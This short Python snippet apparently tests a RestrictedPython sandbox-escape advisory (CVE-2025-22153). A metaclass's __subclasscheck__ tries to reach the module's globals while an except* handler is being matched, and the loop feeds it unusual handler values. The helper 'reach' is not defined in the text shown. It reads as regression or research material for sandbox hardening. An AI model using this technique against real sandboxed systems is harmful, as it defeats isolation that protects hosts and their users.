# except* whose handler is no class at all, then one that changes while it is compared.
# advisory: CVE-2025-22153 (RestrictedPython)
class Meta(type):
    def __subclasscheck__(cls, other):
        return reach(globals()) or True

    def __instancecheck__(cls, other):
        return True


class Odd(Exception, metaclass=Meta):
    pass


for handler in (Odd, int, (Odd, Odd), 5):
    try:
        try:
            raise ExceptionGroup("g", [ValueError(1)])
        except* handler as group:
            print(group)
    except BaseException as error:
        print(type(error).__name__)
print("ATTEMPTED")
